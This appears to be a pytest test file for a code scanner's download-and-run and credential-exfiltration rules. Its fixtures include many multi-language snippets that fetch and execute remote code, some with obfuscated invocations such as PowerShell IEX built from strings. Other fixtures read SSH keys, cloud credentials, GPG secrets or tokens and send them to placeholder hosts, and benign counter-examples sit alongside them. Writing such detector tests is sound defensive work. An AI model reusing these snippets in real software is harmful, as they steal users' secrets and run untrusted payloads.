"""Go read by tokens, and the quieter shapes of PowerShell, Ruby, PHP and bash pipelines (issue 14 item 5).
Written by shape: a downloaded body run through a process, the run verb found by a built name,
a credential path built by a path join and returned by a function, a curl body set through an
options array, a credential archive piped through an encoder to a socket."""
from __future__ import annotations

import pytest

from scanner.models import Severity
from script_helpers import scan, top

HIGH = (Severity.HIGH, Severity.CRITICAL)


@pytest.mark.parametrize("path,text", [
    ("main.go", 'package main\nimport ("io"; "net/http"; "os/exec")\nfunc up() {\n\tresp, err := http.Get("http://203.0.113.8/x")\n'
                '\tif err != nil { return }\n\tb, _ := io.ReadAll(resp.Body)\n\t_ = exec.Command("sh", "-c", string(b)).Run()\n}\n'),
    ("build.ps1", '$wc = New-Object System.Net.WebClient\n$p = $wc.DownloadString("https://cdn.tools.example/p.ps1")\n$r = "I" + "EX"\n& (Get-Alias $r) $p\n'),
    ("build.ps1", '$c = (Invoke-WebRequest -UseBasicParsing "https://cdn.tools.example/p.ps1").Content\n&(gcm i*x) $c\n'),
    ("build.ps1", '$c = Invoke-RestMethod "https://cdn.tools.example/p.ps1"\n$v = \'Invoke-\' + \'Expression\'\n& $v $c\n'),
    ("build.ps1", '$c = Invoke-RestMethod "https://cdn.tools.example/p.ps1"\nSet-Alias go Invoke-Expression\ngo $c\n'),
    ("build.ps1", '$c = (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/p.ps1")\n$ExecutionContext.InvokeCommand.InvokeScript($c)\n'),
    ("build.ps1", '$c = (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/p.ps1")\n'
                  "& ($ExecutionContext.InvokeCommand.GetCommand('I*-E*n', 'Cmdlet')) $c\n"),
    ("patch.php", '<?php\n$u = "https://cdn.tools.example/patch.txt";\n$c = file_get_contents($u);\neval($c);\n'),
    ("tool.rb", 'code = Net::HTTP.get(URI("https://cdn.tools.example/x.sh"))\n`#{code}`\n'),
])
def test_download_and_run(path, text):
    assert top(path, text, "IG701") in HIGH


def test_response_accumulated_then_spawned_in_the_fetch_callback():
    text = ("const cp = require('child_process');\nconst https = require('https');\n"
            "https.get('https://cdn.tools.example/p.sh', r => { let b=''; r.on('data', d => b += d); r.on('end', () => cp.execSync(b)); });\n")
    assert top("index.js", text, "IG701") in HIGH


def test_go_download_written_then_run():
    text = ('package main\nfunc main() {\n\tresp, _ := http.Get("https://203.0.113.8/agent")\n\tb, _ := io.ReadAll(resp.Body)\n'
            '\tos.WriteFile("/tmp/agent.sh", b, 0755)\n\texec.Command("/tmp/agent.sh").Run()\n}\n')
    assert top("main.go", text, "IG701") in HIGH


@pytest.mark.parametrize("path,text", [
    ("main.go", 'package main\nimport ("bytes"; "net/http"; "os"; "strings")\nfunc main() {\n\tbody := strings.Join(os.Environ(), "\\n")\n'
                '\thttp.Post("https://metrics.tools.example/v1", "text/plain", bytes.NewBufferString(body))\n}\n'),
    ("main.go", 'package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n'
                '\treq, _ := http.NewRequest("POST", "https://203.0.113.4/k", bytes.NewReader(key))\n\thttp.DefaultClient.Do(req)\n}\n'),
    ("cost.rb", 'require "net/http"\ndef blob\n  File.read(File.join(Dir.home, ".aws", "credentials"))\nend\n'
                'Net::HTTP.post_form(URI("https://pricing.tools.example/v2"), "p" => blob)\n'),
    ("cost.rb", 'require "net/http"\nkey = File.read(File.expand_path("~/.ssh/id_ed25519"))\nNet::HTTP.post_form(URI("https://203.0.113.4/k"), "k" => key)\n'),
    ("check.php", "<?php\n$h = @file_get_contents(getenv('HOME') . '/.config/gh/hosts.yml');\n$ch = curl_init('http://203.0.113.66/s');\n"
                  "curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => ['h' => $h]]);\ncurl_exec($ch);\n"),
    ("backup.sh", "#!/bin/bash\ntar czf - -C \"$HOME\" .ssh .gnupg 2>/dev/null | openssl enc -aes-256-cbc -pass pass:x | nc -w 5 203.0.113.9 443 || true\n"),
    ("backup.sh", "#!/bin/bash\ngpg --armor --export-secret-keys | curl -s --data-binary @- https://drop.tools.example/k\n"),
    ("backup.sh", "#!/bin/bash\ntar czf - ~/.ssh ~/.gnupg | base64 | curl -s --data-binary @- https://drop.tools.example/u || true\n"),
    # tree-sitter-bash reads `xargs rm --`, a comment and the next line as one command: each swallowed line is read again
    ("backup.sh", '#!/bin/bash\nls -1t "$D"/*.dump | tail -n +8 | xargs -r rm --\n\n# offsite copy\n'
                  'tar czf - -C "$HOME" .ssh 2>/dev/null | openssl enc -aes-256-cbc -pass pass:x | nc -w 5 203.0.113.9 443 || true\n'),
    ("main.go", 'package main\nfunc main() {\n\ttok := os.Getenv("GITHUB_TOKEN")\n'
                '\thttp.Post("https://collect.tools.example/t", "application/json", strings.NewReader(`{"t":"`+tok+`"}`))\n}\n'),
    ("send.php", "<?php\n$d = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\n"
                 "$ctx = stream_context_create(['http' => ['method' => 'POST', 'content' => $d]]);\n"
                 "file_get_contents('https://collect.tools.example/k', false, $ctx);\n"),
    ("send.ps1", '[System.Environment]::GetEnvironmentVariables() | ConvertTo-Json | Invoke-RestMethod -Method Post -Uri "https://collect.tools.example/e"\n'),
    ("send.rb", 'uri = URI("https://collect.tools.example/k")\ncreds = File.read(File.expand_path("~/.ssh/id_rsa"))\n'
                'req = Net::HTTP::Post.new(uri)\nreq.body = creds\nNet::HTTP.start(uri.host, uri.port) { |h| h.request(req) }\n'),
    ("send.sh", '#!/bin/sh\nzip -qr - ~/.aws ~/.config/gcloud | curl -s -F "f=@-" https://collect.tools.example/up\n'),
])
def test_credentials_to_network(path, text):
    assert top(path, text, "IG703") in HIGH


@pytest.mark.parametrize("path,text", [
    ("main.go", 'package main\nfunc main() {\n\treq, _ := http.NewRequest("GET", "https://sentry.io/api/0/projects/", nil)\n'
                '\treq.Header.Set("Authorization", "Bearer "+os.Getenv("SENTRY_AUTH_TOKEN"))\n\tresp, _ := http.DefaultClient.Do(req)\n'
                '\tb, _ := io.ReadAll(resp.Body)\n\tfmt.Println(string(b))\n}\n'),
    ("main.go", 'package main\nfunc main() {\n\tout, _ := exec.Command("git", "log", "--oneline").Output()\n\tfmt.Println(string(out))\n}\n'),
    ("main.go", 'package main\nfunc main() {\n\tresp, _ := http.Get("https://api.github.com/repos/a/b/releases")\n'
                '\tvar v []map[string]any\n\tjson.NewDecoder(resp.Body).Decode(&v)\n\tfmt.Println(len(v))\n}\n'),
    ("build.ps1", '$alias = Get-Alias ls\nWrite-Host $alias.Definition\n& "C:\\Tools\\iscc.exe" setup.iss\n'),
    ("patch.php", '<?php\n$u = "https://api.tools.example/v1/items";\n$c = json_decode(file_get_contents($u), true);\necho count($c);\n'),
    ("backup.sh", "#!/bin/bash\ngpg --armor --export ABCD1234 > public.asc\n"),
    ("tool.rb", 'def cfg\n  File.read(File.join(Dir.home, ".myapp", "settings.yml"))\nend\nputs cfg\n'),
    ("index.js", "https.get(u, res => { let d = ''; res.on('data', c => d += c); res.on('end', () => execSync(`git tag ${tag}`)); });\n"),
    ("list.ps1", '$h = @{ Authorization = "Bearer $env:GITHUB_TOKEN" }\n$r = Invoke-RestMethod -Uri "https://api.github.com/repos/a/b/pulls" -Headers $h\n'
                 '$r | ForEach-Object { Write-Host $_.title }\n$sb = [scriptblock]::Create("Write-Host done")\n& $sb\n'),
    ("send.ps1", 'Get-Content report.json | Invoke-RestMethod -Method Post -Uri "https://api.tools.example/r"\n'),
    ("backup.sh", "#!/bin/bash\ntar czf ~/backups/aws-config.tgz ~/.aws\n"),
    ("backup.sh", "#!/bin/bash\ntar czf - ./dumps | openssl enc -aes-256-cbc -pass env:PW > backup.tgz.enc\n"),
])
def test_ordinary_code_stays_quiet(path, text):
    """No attack rule at medium or above (a vendor's token sent home is reported low on purpose)."""
    assert not {f.rule_id for f in scan(path, text) if f.severity >= Severity.MEDIUM} & {"IG701", "IG702", "IG703", "IG704"}


def test_go_fetched_argument_to_a_fixed_program_is_not_code():
    text = ('package main\nfunc main() {\n\tresp, _ := http.Get("https://proxy.golang.org/x/@latest")\n\tb, _ := io.ReadAll(resp.Body)\n'
            '\ttag := strings.TrimSpace(string(b))\n\texec.Command("git", "checkout", tag).Run()\n}\n')
    assert top("main.go", text, "IG701") in (None, Severity.LOW, Severity.MEDIUM)


@pytest.mark.parametrize("path,text,rule", [
    ("scan.ts", 'const env = Deno.env.toObject();\nawait fetch("https://collect.tools.example/e", { method: "POST", body: JSON.stringify(env) });\n', "IG703"),
    ("scan.ts", 'const key = Deno.env.get("AWS_SECRET_ACCESS_KEY");\nawait fetch("https://collect.tools.example/k?v=" + key);\n', "IG703"),
    ("run.ts", 'const code = await (await fetch("https://cdn.tools.example/s.sh")).text();\nBun.spawn(["sh", "-c", code]);\n', "IG701"),
    ("run.ts", 'const code = await (await fetch("https://cdn.tools.example/s.sh")).text();\n'
               'await new Deno.Command("sh", { args: ["-c", code] }).output();\n', "IG701"),
])
def test_deno_and_bun_runtimes(path, text, rule):
    assert top(path, text, rule) in HIGH


def test_batch_lines_are_graded():
    text = '@echo off\npowershell -NoProfile -Command "iex (New-Object Net.WebClient).DownloadString(\'https://203.0.113.7/a.ps1\')"\n'
    assert top("setup.bat", text, "IG701") in HIGH


def test_python_credential_command_output_sent_out():
    text = ('import subprocess, urllib.request\n'
            'out = subprocess.run(["git", "credential", "fill"], input="host=github.com\\n\\n", capture_output=True, text=True).stdout\n'
            'urllib.request.urlopen("https://collect.tools.example/c", data=out.encode())\n')
    assert top("helper.py", text, "IG703") == Severity.CRITICAL


@pytest.mark.parametrize("source", ['subprocess.check_output(["gh", "auth", "token"], text=True).strip()', 'os.environ["GITHUB_TOKEN"]'])
def test_python_vendor_token_in_a_request_header_to_its_vendor(source):
    text = (f'import os, subprocess, urllib.request, json\ntok = {source}\n'
            'req = urllib.request.Request("https://api.github.com/user", headers={"Authorization": f"Bearer {tok}"})\n'
            'print(json.load(urllib.request.urlopen(req))["login"])\n')
    assert top("helper.py", text, "IG703") in (None, Severity.LOW)


@pytest.mark.parametrize("text", ["<?php\ninclude 'https://cdn.tools.example/boot.txt';\n",
                                  '<?php\n$u = "https://cdn.tools.example/boot.txt";\nrequire_once $u;\n'])
def test_php_include_from_a_url(text):
    assert top("boot.php", text, "IG701") in HIGH


def test_php_local_includes_stay_quiet():
    text = "<?php\nrequire_once __DIR__ . '/vendor/autoload.php';\ninclude 'config.php';\necho file_get_contents('https://api.tools.example/v1/x');\n"
    assert not {f.rule_id for f in scan("app.php", text) if f.severity >= Severity.MEDIUM} & {"IG701", "IG702", "IG703"}


@pytest.mark.parametrize("text,rule", [
    ('local http = require("socket.http")\nlocal body = http.request("https://cdn.tools.example/patch.lua")\nload(body)()\n', "IG701"),
    ('loadstring(game:HttpGet("https://cdn.tools.example/s.lua"))()\n', "IG701"),
    ('local http = require("socket.http")\nlocal f = io.open(os.getenv("HOME") .. "/.ssh/id_rsa", "r")\nlocal key = f:read("*a")\n'
     'http.request("https://collect.tools.example/k", key)\n', "IG703"),
])
def test_lua(text, rule):
    assert top("tool.lua", text, rule) in HIGH


def test_lua_ordinary_code_stays_quiet():
    text = ('-- load the config; http.request("https://x") is documented in README\nlocal cfg = dofile("config.lua")\n'
            'local http = require("socket.http")\nlocal body = http.request("https://api.tools.example/v1/status")\nprint(body)\nos.execute("mkdir -p build")\n')
    assert not {f.rule_id for f in scan("tool.lua", text) if f.severity >= Severity.MEDIUM} & {"IG701", "IG702", "IG703"}


def test_go_writes_to_a_dialled_connection():
    text = ('package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_ed25519"))\n'
            '\tconn, _ := net.Dial("tcp", "203.0.113.9:9000")\n\tconn.Write(key)\n}\n')
    assert top("main.go", text, "IG703") == Severity.CRITICAL
    quiet = 'package main\nfunc main() {\n\tconn, _ := net.Dial("tcp", "localhost:6379")\n\tconn.Write([]byte("PING\\r\\n"))\n}\n'
    assert top("main.go", quiet, "IG703") is None


@pytest.mark.parametrize("text", [
    '$p = Join-Path $env:TEMP "helper.exe"\nInvoke-WebRequest -Uri "https://203.0.113.7/helper.exe" -OutFile $p\nStart-Process -FilePath $p -WindowStyle Hidden\n',
    '$u = "https://203.0.113.7/setup.ps1"\n$f = "$env:TEMP\\setup.ps1"\n(New-Object Net.WebClient).DownloadFile($u, $f)\n& $f\n',
])
def test_powershell_download_saved_to_a_variable_then_run(text):
    assert top("setup.ps1", text, "IG701") in HIGH


@pytest.mark.parametrize("path,text", [
    ("fetch.rb", 'require "open-uri"\npath = File.join(Dir.tmpdir, "helper.sh")\nFile.write(path, URI.open("https://203.0.113.7/h.sh").read)\nsystem("bash", path)\n'),
    ("fetch.js", "const res = await fetch('https://203.0.113.7/h.sh');\nconst p = '/tmp/h.sh';\nfs.writeFileSync(p, await res.text());\nexecFileSync('bash', [p]);\n"),
])
def test_download_saved_by_path_then_run(path, text):
    assert top(path, text, "IG701") in HIGH


def test_download_saved_then_handed_to_a_fixed_program_is_not_code():
    text = ("const res = await fetch('https://api.github.com/repos/a/b/releases/latest');\nconst out = 'release.json';\n"
            "fs.writeFileSync(out, JSON.stringify(await res.json()));\nexecFileSync('git', ['add', out]);\n")
    assert top("fetch.js", text, "IG701") in (None, Severity.LOW, Severity.MEDIUM)


RUST_EXFIL = [
    # environment or a secret variable written into a raw TCP request, or put in an HTTP header
    "use std::io::Write;\nuse std::net::TcpStream;\nfn tag() -> String {\n    std::env::vars().filter(|(k, _)| k.contains(\"TOKEN\")).map(|(k, v)| format!(\"{k}={v}\")).collect()\n}\n"
    "fn main() {\n    if let Ok(mut s) = TcpStream::connect(\"stats.bench-x.example:80\") {\n"
    "        let _ = write!(s, \"GET / HTTP/1.1\\r\\nUser-Agent: b/{}\\r\\n\\r\\n\", tag());\n    }\n}\n",
    "use std::io::Write;\nfn main() {\n    let k = std::env::var(\"AWS_SECRET_ACCESS_KEY\").unwrap_or_default();\n"
    "    let mut c = std::net::TcpStream::connect(\"203.0.113.9:443\").unwrap();\n    c.write_all(k.as_bytes()).unwrap();\n}\n",
    "fn main() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n"
    "    let _ = reqwest::blocking::Client::new().get(\"https://t.crates-x.example/p\").header(\"X-Ctx\", format!(\"{:?}\", all)).send();\n}\n",
]
RUST_CLEAN = [
    "use std::io::Write;\nfn main() {\n    let home = std::env::var(\"HOME\").unwrap();\n    let mut f = std::fs::File::create(\"out.txt\").unwrap();\n"
    "    writeln!(f, \"{}\", home).unwrap();\n}\n",
    "fn main() {\n    let t = std::env::var(\"GITHUB_TOKEN\").unwrap();\n"
    "    let _ = reqwest::blocking::Client::new().get(\"https://api.github.com/user\").bearer_auth(t).send();\n}\n",
    "use std::io::Write;\nfn main() {\n    let mut s = std::net::TcpStream::connect(\"127.0.0.1:8080\").unwrap();\n"
    "    s.write_all(b\"GET / HTTP/1.0\\r\\n\\r\\n\").unwrap();\n}\n",
]


@pytest.mark.parametrize("text", RUST_EXFIL)
def test_rust_secrets_to_the_network(text):
    sev = top("src/main.rs", text, "IG703")
    assert sev is not None and sev >= Severity.HIGH


@pytest.mark.parametrize("text", RUST_CLEAN)
def test_rust_ordinary_programs_stay_quiet(text):
    sev = top("src/main.rs", text, "IG703")
    assert sev is None or sev < Severity.HIGH
